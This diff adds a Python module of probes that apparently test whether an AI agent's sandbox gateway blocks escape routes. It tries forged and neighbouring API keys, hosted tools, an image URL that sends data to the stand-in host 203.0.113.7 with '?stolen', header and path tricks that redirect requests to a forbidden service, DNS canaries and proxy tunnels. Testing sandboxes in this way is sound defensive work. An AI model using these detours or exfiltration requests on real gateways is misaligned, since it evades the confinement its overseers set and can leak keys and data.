@@ -1,0 +1,174 @@
+"""Probes of the one door: keys, tools, services, ways round. Runs inside the sandbox, see `probes`."""
+
+from __future__ import annotations
+
+import http.client
+import json
+import socket
+from typing import Any
+
+Plan = dict[str, Any]
+Seen = tuple[bool | None, str, bool, str]
+
+
+def ask(
+    address: tuple[str, int], method: str, path: str, body: Any = None, headers: dict[str, str] | None = None
+) -> tuple[int, str]:
+    """Status and body of one request whose path goes out as it is given. Raises OSError."""
+    connection = http.client.HTTPConnection(*address, timeout=5)
+    try:
+        data = None if body is None else json.dumps(body)
+        connection.putrequest(method, path, skip_accept_encoding=True)
+        for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
+            connection.putheader(name, value)
+        if data is not None:
+            connection.putheader("Content-Length", str(len(data)))
+        connection.endheaders(None if data is None else data.encode())
+        response = connection.getresponse()
+        return response.status, response.read().decode("utf-8", "replace")
+    except http.client.HTTPException as error:
+        raise OSError(str(error)) from error
+    finally:
+        connection.close()
+
+
+def model_call(plan: Plan, key: str, **extra: Any) -> tuple[int, str]:
+    body = {"model": plan["model"], "messages": [{"role": "user", "content": "hello"}], "max_tokens": 5, **extra}
+    return ask(tuple(plan["gateway"]), "POST", "/v1/chat/completions", body, {"Authorization": f"Bearer {key}"})
+
+
+def _control(plan: Plan) -> tuple[bool, str]:
+    status, _ = model_call(plan, plan["key"])
+    return status == 200, f"the attempt's own key: {status}"
+
+
+def _refused(plan: Plan, answers: dict[str, tuple[int, str]], wanted: int) -> Seen:
+    through = [what for what, (status, _) in answers.items() if status < 400]
+    other = [what for what, (status, _) in answers.items() if status >= 400 and status != wanted]
+    how = ", ".join(f"{what}: {status}" for what, (status, _) in answers.items())
+    control, told = _control(plan)
+    return bool(through), how, control and not other, told
+
+
+def forged_key(plan: Plan) -> Seen:
+    keys = {
+        "a made-up key": "sk-forged",
+        "no key": "",
+        "the service's name": plan["service"],
+        "a longer one": plan["key"] + "x",
+    }
+    return _refused(plan, {what: model_call(plan, key) for what, key in keys.items()}, 401)
+
+
+def neighbour_key(plan: Plan) -> Seen:
+    return _refused(plan, {"the neighbour's key": model_call(plan, plan["neighbour_key"])}, 401)
+
+
+def provider_tools(plan: Plan) -> Seen:
+    tools: dict[str, dict[str, Any]] = {
+        "web_search": {"tools": [{"type": "web_search"}]},
+        "mcp": {"tools": [{"type": "mcp", "server_url": "https://203.0.113.7/"}]},
+        "code_interpreter": {"tools": [{"type": "code_interpreter"}]},
+        "web_search_options": {"web_search_options": {}},
+    }
+    answers = {what: model_call(plan, plan["key"], **extra) for what, extra in tools.items()}
+    headers = {"x-api-key": plan["key"], "anthropic-version": "2023-06-01"}
+    hosted = {"model": plan["model"], "max_tokens": 5, "messages": [], "tools": [{"type": "web_search_20250305", "name": "w"}]}
+    answers["web_search_20250305"] = ask(tuple(plan["gateway"]), "POST", "/v1/messages", hosted, headers)
+    return _refused(plan, answers, 400)
+
+
+def remote_addresses(plan: Plan) -> Seen:
+    """What a provider would fetch for the agent, with the agent's words in the address."""
+    part = {"type": "image_url", "image_url": {"url": "https://203.0.113.7/?stolen"}}
+    answers = {"image_url": model_call(plan, plan["key"], messages=[{"role": "user", "content": [part]}])}
+    return _refused(plan, answers, 400)
+
+
+def echoed_key(plan: Plan) -> Seen:
+    """The provider of this suite repeats the key it was given."""
+    status, body = model_call(plan, plan["key"])
+    return (
+        plan["provider_key"] in body,
+        f"{status}, {len(body)} bytes without it",
+        status == 200 and "echo" in body,
+        "it echoed",
+    )
+
+
+def _service(plan: Plan) -> tuple[str, int]:
+    return plan["service"], plan["service_port"]
+
+
+def _allowed(plan: Plan) -> tuple[bool, str]:
+    status, body = ask(_service(plan), "GET", plan["service_path"])
+    return status == 200 and plan["service_word"] in body, f"the allowed service: {status}"
+
+
+def service_list(plan: Plan) -> Seen:
+    status, body = ask((plan["forbidden"], plan["forbidden_port"]), "GET", plan["service_path"])
+    control, told = _allowed(plan)
+    return plan["forbidden_word"] in body, f"the other service: {status}", control and status == 403, told
+
+
+def detour(plan: Plan) -> Seen:
+    """Requests to the allowed service that name another place."""
+    forbidden = f"{plan['forbidden_address']}:{plan['forbidden_port']}"
+    path = plan["service_path"]
+    tries: dict[str, tuple[str, dict[str, str]]] = {
+        "//host/path": (f"//{forbidden}{path}", {}),
+        "absolute form": (f"http://{forbidden}{path}", {}),
+        "Host": (path, {"Host": forbidden}),
+        "@": (f"@{forbidden}{path}", {}),
+        "backslash": (f"/\\{forbidden}{path}", {}),
+        "X-Forwarded-Host": (path, {"X-Forwarded-Host": forbidden}),
+    }
+    answers = {}
+    for what, (target, headers) in tries.items():
+        try:
+            answers[what] = ask(_service(plan), "GET", target, None, headers)
+        except OSError as error:
+            answers[what] = (599, str(error))
+    through = [what for what, (_, body) in answers.items() if plan["forbidden_word"] in body]
+    how = ", ".join(f"{what}: {status}" for what, (status, _) in answers.items())
+    return bool(through), f"reached by {', '.join(through)}" if through else how, *_allowed(plan)
+
+
+def resolver(plan: Plan) -> Seen:
+    """A name that the gateway would have to ask a name server for; what it did is in its records, which the host reads."""
+    try:
+        status, _ = ask(_service(plan), "GET", f"//{plan['dns_canary']}/")
+    except OSError as error:
+        return False, str(error), *_allowed(plan)
+    return False, f"answered {status}", *_allowed(plan)
+
+
+def no_proxy(plan: Plan) -> Seen:
+    """The gateway fetches nothing that it is asked for by address."""
+    host, port = plan["host_tcp"]
+    tries = {
+        "absolute form": ("GET", f"http://{host}:{port}/"),
+        "tunnel": ("CONNECT", f"{host}:{port}"),
+        "//host/path": ("GET", f"//{host}:{port}/"),
+    }
+    answers = {}
+    for what, (method, target) in tries.items():
+        with socket.create_connection(tuple(plan["gateway"]), timeout=5) as connection:
+            connection.sendall(f"{method} {target} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
+            answers[what] = connection.recv(4096).decode("utf-8", "replace")
+    through = [what for what, text in answers.items() if plan["token"] in text or " 200 " in text.split("\r\n")[0]]
+    how = ", ".join(f"{what}: {text[9:12]}" for what, text in answers.items())
+    return bool(through), f"fetched by {', '.join(through)}" if through else how, *_control(plan)
+
+
+PROBES = {
+    "gateway-forged-key": forged_key,
+    "gateway-neighbour-key": neighbour_key,
+    "gateway-provider-tools": provider_tools,
+    "gateway-remote-addresses": remote_addresses,
+    "gateway-echoed-key": echoed_key,
+    "gateway-service-list": service_list,
+    "gateway-detour": detour,
+    "gateway-resolver": resolver,
+    "gateway-no-proxy": no_proxy,
+}
